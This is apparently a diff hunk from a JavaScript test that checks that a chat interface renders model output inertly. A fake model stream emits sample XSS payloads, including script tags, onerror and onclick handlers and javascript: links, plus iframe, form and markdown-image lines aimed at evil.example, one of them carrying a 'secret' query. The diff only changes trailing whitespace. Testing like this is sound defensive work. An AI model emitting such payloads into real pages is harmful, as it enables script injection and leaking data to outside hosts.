@@ -470,7 +470,7 @@ test("what_a_model_writes_cannot_act_in_the_page", async () => {
   await tab.ask("Attack.");
   const call = await fake.call();
   call.say("<img src=x onerror=alert(1)> ![q](https://evil.example/?q=secret) <script>alert(2)</script>\n\n");
-  call.say('<iframe src="https://evil.example/"></iframe><form action="https://evil.example/"><input></form> ');
+  call.say('<iframe src="https://evil.example/"></iframe><form action="https://evil.example/"><input></form>\n\n');
   call.say("[a](javascript:alert(3)) [b](https://evil.example/) <b style=position:fixed onclick=alert(4)>end</b>");
   call.finish();
   await tab.finished();
